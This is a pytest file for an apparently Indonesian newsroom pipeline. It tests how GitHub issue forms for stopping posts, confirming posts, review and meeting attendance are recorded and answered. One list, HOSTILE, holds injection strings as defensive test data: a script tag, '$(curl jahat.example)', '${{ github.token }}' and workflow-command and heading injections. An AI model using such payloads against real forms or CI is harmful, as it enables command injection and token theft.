"""forms-reach-the-ledger: on a phone, somebody stops posting, or says that a post was made."""

import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.core.causes import CorrectionCause
from pipeline.core.checks.unwritten import nothing_left_to_write
from pipeline.core.content import Content
from pipeline.core.findings import Blocked
from pipeline.core.model import Correction
from pipeline.core.posting import Act, ActKind
from pipeline.core.status_matter import Mark, Status
from pipeline.desk import World as Gathered
from pipeline.desk import gather
from pipeline.edge.disk import read_content
from pipeline.intake import FORMS, intake_at
from pipeline.overview import plan_ahead, survey
from tests.forge_office import MACHINE
from tests.stories.forms.test_a_form_becomes_a_proposal import RIGHTS, fill, run
from tests.stories.office.conftest import SITE, item
from tests.stories.proposals.conftest import Newsroom, newsroom

__all__ = ["newsroom"]  # the same office, with its forge
ID = "2026-11-hak-atas-informasi"
POST = "https://www.facebook.com/jdihpinrang/posts/123456"


@pytest.fixture
def room(newsroom: Newsroom) -> Newsroom:
    """With one approved item, handed over for two channels."""
    newsroom.world.approve({f"content/konten/{ID}/index.md": item()})
    newsroom.world.send()
    handed = [
        Act(
            kind=ActKind.HANDED_OVER,
            item=ID,
            revision=0,
            channel=channel,
            at=newsroom.world.now,
            actor="mesin",
        )
        for channel in ("facebook", "whatsapp")
    ]
    gathered(newsroom).ledger.write(handed)
    return newsroom


def gathered(room: Newsroom) -> Gathered:
    return gather(room.desk(), room.world.repository(), room.folder / "read", fetch=True)


def acts(room: Newsroom, *kinds: ActKind) -> list[Act]:
    return [act for act in gathered(room).acts if act.kind in kinds]


def owed(room: Newsroom) -> set[str]:
    return {one.promise.channel for one in plan_ahead(room.desk(), gathered(room)).owed}


def take(room: Newsroom) -> Status:
    return survey(room.desk(), gathered(room), ()).status


def answer(room: Newsroom, number: int) -> str:
    """What a person reads below the form."""
    return re.sub(r"\\(?=\W)", "", room.remark(number).partition("\n")[2])


def confirm(item: str, channel: str, url: str = "") -> Mapping[str, str]:
    return {"Konten": item, "Kanal": channel, "Tautan unggahan": url}


def test_stop_from_a_phone(room: Newsroom) -> None:
    """The Pengelola may, too; from that moment nothing is owed, and he reads how to go on."""
    before = owed(room)
    number = fill(room, "berhenti", "putra", {"Sebab": "Lambang yang salah"})
    (act,) = acts(room, ActKind.STOP)
    told = answer(room, number)

    assert told.startswith("**Unggahan dihentikan.** Semua kanal dihentikan Putra Pengelola, ")
    assert "Melanjutkan: usulkan baris «dilanjutkan: [2026-11-23-" in told
    assert (act.actor, act.note, act.url) == (
        "Putra Pengelola",
        "Lambang yang salah",
        f"https://github.example/kpu/jdih/issues/{number}",
    )
    assert not room.office.talks[number].open
    assert (before, owed(room)) == ({"mastodon"}, set())


def test_stop_of_one_channel_by_the_name_people_read(room: Newsroom) -> None:
    """What stands on the phone is "Mastodon". A slip is told, stops nothing, and can be mended."""
    number = fill(room, "berhenti", "sari", {"Kanal yang dihentikan": "mastodn"})
    assert "«mastodn» tidak ada; pilih salah satu: mastodon, facebook, whatsapp." in answer(
        room, number
    )
    assert acts(room, ActKind.STOP) == [] and room.office.talks[number].open

    talk = room.office.talks[number]
    talk.body = talk.body.replace("mastodn", "Mastodon")
    run(room, number)

    assert [act.extra["stopped"] for act in acts(room, ActKind.STOP)] == ["mastodon"]
    assert not talk.open


def test_confirmation_from_a_phone(room: Newsroom) -> None:
    """The address of the item's page will do for its name; WhatsApp needs no link."""
    posted = fill(room, "konfirmasi", "sari", confirm(ID, "Facebook", f"{POST}?mibextid=x"))
    page = f"{SITE}konten/{ID}/"
    shared = fill(room, "konfirmasi", "sari", confirm(page, "whatsapp"))
    found = {(act.channel, act.actor, act.url) for act in acts(room, ActKind.CONFIRMED)}

    assert answer(room, posted) == f"**Tercatat:** {ID} di Facebook, oleh Sari Sekretaris."
    assert answer(room, shared) == f"**Tercatat:** {ID} di WhatsApp, oleh Sari Sekretaris."
    assert found == {
        ("facebook", "Sari Sekretaris", POST),
        ("whatsapp", "Sari Sekretaris", ""),
    }


def test_a_doubt_is_settled_from_a_phone(room: Newsroom) -> None:
    """It is not there: owed again, and the form says so. With an address it would be settled."""
    world = gathered(room)
    lost = Act(
        kind=ActKind.UNKNOWN,
        item=ID,
        revision=0,
        channel="mastodon",
        attempt=1,
        at=room.desk().clock(),
        actor="mesin",
    )
    world.ledger.write([lost])
    doubtful = owed(room)
    number = fill(room, "konfirmasi", "sari", confirm(ID, "Mastodon", "Tidak ada."))
    (act,) = acts(room, ActKind.NOT_POSTED)

    assert answer(room, number) == (
        f"**Tercatat:** {ID} di Mastodon tidak ada, dan akan diunggah lagi, oleh Sari Sekretaris."
    )
    assert (act.channel, act.actor, act.url) == ("mastodon", "Sari Sekretaris", "")
    assert (doubtful, owed(room)) == (set(), {"mastodon"})


def look(item: str, result: str, kind: str = "", what: str = "") -> Mapping[str, str]:
    return {"Konten": item, "Hasil": result, "Jenis kesalahan": kind, "Yang keliru": what}


def test_second_look_is_asked_for_until_somebody_has_taken_it(room: Newsroom) -> None:
    """Silence is told by name; a person's word lasts until the item changes."""
    silent = "Belum dicermati sesudah tayang: 1 konten (2026-11-hak-atas-informasi)."
    fill(room, "konfirmasi", "sari", confirm(ID, "facebook", POST))
    before = take(room).notes
    number = fill(room, "cermat-ulang", "putra", look(f"{SITE}konten/{ID}/", "Sesuai"))
    after = take(room).notes
    (act,) = acts(room, ActKind.REREAD)
    room.world.approve({f"content/konten/{ID}/index.md": item(title="Hak Anda atas informasi")})
    room.world.send()

    assert answer(room, number) == (
        f"**Tercatat:** {ID} dicermati Putra Pengelola: sesuai. Terima kasih."
    )
    assert (act.note, act.actor, act.item, act.revision) == ("sesuai", "Putra Pengelola", ID, 0)
    assert silent in before and silent not in after
    assert silent in take(room).notes, "an edit asks for it anew"


def test_mistake_found_begins_a_correction(room: Newsroom) -> None:
    """A branch with the next number, the code and a place for words; once, whoever reports."""
    fill(room, "konfirmasi", "sari", confirm(ID, "facebook", POST))
    wrong = look(ID, "Ada kesalahan", "Rujukan peraturannya keliru", "Pasal 9: <b>keliru</b>")
    first = fill(room, "cermat-ulang", "sari", wrong)
    again = fill(room, "cermat-ulang", "putra", wrong)
    (faulty,) = [one for one in take(room).matters if one.mark is Mark.FAULTY]
    branch = f"ralat/{ID}-1"
    room.world.git("fetch", "-q", "origin")
    room.world.git("checkout", "-q", f"origin/{branch}")
    begun = read_content(room.world.root).items[ID]

    assert f"compare/main...{branch}?" in answer(room, first)
    assert f"Ralatnya sudah dimulai pada cabang `{branch}`" in answer(room, again)
    assert faulty.subject == ID and "Pasal 9" not in faulty.note
    assert begun.correction == Correction(
        number=1,
        day=room.office.talks[first].at.date(),
        note="[TULIS: apa yang keliru, dan apa yang benar menurut sumbernya]",
        cause=CorrectionCause.CITATION,
    )
    held = {finding.rule for finding in nothing_left_to_write(begun, Content())}
    assert held == {"belum-ditulis"}


def test_second_look_that_says_nothing_is_sent_back(room: Newsroom) -> None:
    """Of what is not there, or a mistake that nobody can find: said, not recorded."""
    told = {
        "belum terbit": look("2026-11-lain", "Sesuai"),
        "tulis apa yang keliru": look(ID, "Ada kesalahan"),
        "pilih salah satu: Sesuai": look(ID, "Entahlah"),
    }
    for wrong, filled in told.items():
        number = fill(room, "cermat-ulang", "sari", filled)

        assert wrong in answer(room, number)
        assert room.office.talks[number].open and acts(room, ActKind.REREAD) == []


def test_invitation_is_acknowledged_once_by_each(room: Newsroom) -> None:
    """With the moment at which the form was sent; a second answer changes nothing."""
    yes = {"Disposisi": "2026-001", "Kehadiran": "Saya akan hadir"}
    no = {"Disposisi": "2026-001", "Kehadiran": "Saya tidak dapat hadir"}
    first = fill(room, "kehadiran", "putra", yes)
    second = fill(room, "kehadiran", "putra", no)
    other = fill(room, "kehadiran", "sari", no)
    wrong = fill(room, "kehadiran", "sari", {**yes, "Disposisi": "2026-9"})
    found = [(act.actor, act.note, act.at) for act in acts(room, ActKind.ACKNOWLEDGED)]

    assert answer(room, first) == (
        "**Tercatat:** undangan rapat disposisi 2026-001 sudah diterima Putra Pengelola, akan "
        "hadir. Terima kasih."
    )
    assert "sudah tercatat sebelumnya" in answer(room, second)
    assert "tidak dapat hadir" in answer(room, other)
    assert "2026-9" in answer(room, wrong) and room.office.talks[wrong].open
    assert found == [
        ("Putra Pengelola", "akan hadir", room.office.talks[first].at),
        ("Sari Sekretaris", "tidak dapat hadir", room.office.talks[other].at),
    ]


def test_same_confirmation_twice_is_one(room: Newsroom) -> None:
    """The run that recorded it died before it could answer: the next one answers the same."""
    number = fill(room, "konfirmasi", "sari", confirm(ID, "facebook", POST))
    room.office.said.clear()
    room.office.talks[number].open = True
    run(room, number)

    assert answer(room, number).startswith("**Tercatat:** ")
    assert len(acts(room, ActKind.CONFIRMED)) == 1


UNTRUE = (
    (confirm(ID, "facebook", "https://x.com/jdih/status/1"), "bukan unggahan Facebook"),
    (confirm("2026-11-lain", "facebook", POST), "2026-11-lain belum pernah diserahkan"),
    (confirm(ID, "myspace", POST), "Kanal: «myspace» tidak ada; pilih salah satu: "),
    (confirm(ID, "facebook"), "tambahkan alamat unggahannya"),
)


def test_confirmation_that_cannot_be_true(room: Newsroom) -> None:
    """It is said what is wrong; the form stays open and nothing is recorded."""
    for told, wrong in UNTRUE:
        number = fill(room, "konfirmasi", "sari", told)
        assert wrong in answer(room, number)
        assert room.office.talks[number].open

    assert acts(room, ActKind.CONFIRMED) == []


def test_anybody_elses_form_is_answered_politely(room: Newsroom) -> None:
    """The whole internet may open an issue: nothing is done, and the answer names who may."""
    room.office.account("orang-luar", "Orang Luar", write=False)
    for kind in ("berhenti", "konfirmasi"):
        number = fill(room, kind, "orang-luar", confirm(ID, "facebook", POST))
        told = answer(room, number)
        assert told.startswith("Terima kasih. ") and "Kartini Ketua (Pemimpin Redaksi)" in told
        assert not room.office.talks[number].open

    assert acts(room, ActKind.STOP, ActKind.CONFIRMED) == []


def test_the_job_with_the_key_begins_only_for_who_holds_a_role(
    room: Newsroom, tmp_path: Path
) -> None:
    """Anybody may start the one without: a stranger is answered there, and nothing handed on."""
    room.office.account("orang-luar", "Orang Luar", write=False)
    headings = FORMS["berhenti"].headings
    body = "\n\n".join(f"### {name}\n\n_No response_" for name in headings)
    output, told = tmp_path / "output", []
    for by in ("orang-luar", "putra"):
        number = room.office.open_issue(by, "Formulir", body, ["berhenti"]).number
        desk = room.desk()
        desk = replace(desk, settings=replace(desk.settings, output=output))
        intake_at(desk, room.server.forge(MACHINE, *RIGHTS), number)
        told.append(output.read_text() if output.exists() else "")
    handed_on = acts(room, ActKind.STOP)
    intake_at(desk, room.server.forge(MACHINE, *RIGHTS), number, record=True)

    assert told == ["", f"record={number}\n"]
    assert handed_on == [] and len(acts(room, ActKind.STOP)) == 1


HOSTILE = [
    "@kpu/pemred ![x](https://jahat.example/x.png) <script>alert(1)</script>",
    "$(curl jahat.example) `id` ${{ github.token }}",
    "semua\n\n### Kanal\n\nfacebook\n\n### Tautan unggahan\n\nhttps://jahat.example",
    "::set-output name=x::y \u202e\x00",
]


def test_hostile_answers_are_words(room: Newsroom) -> None:
    """Markup, shell, expressions and headings in an answer are shown as they are, or refused."""
    for text in HOSTILE:
        number = fill(room, "konfirmasi", "sari", confirm(text, text, text))
        shown = room.remark(number).partition("\n")[2].partition("\n\nTekan ")[0]
        assert not re.search(r"(?<!\\)[<@!`$#]|\]\(|:(?=//)", shown), text

    assert acts(room, ActKind.CONFIRMED) == []


def test_trouble_is_told_and_the_form_stays(room: Newsroom) -> None:
    """The ledger cannot be written: the person reads it below the form, and nothing is closed."""
    headings = FORMS["berhenti"].headings
    body = "\n\n".join(f"### {name}\n\n_No response_" for name in headings)
    number = room.office.open_issue("sari", "Formulir", body, ["berhenti"]).number
    hook = room.world.origin / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)

    with pytest.raises(Blocked):
        intake_at(room.desk(), room.server.forge(MACHINE, *RIGHTS), number)
    assert answer(room, number).startswith("Formulir ini belum dikerjakan, bukan karena isiannya: ")
    assert room.office.talks[number].open
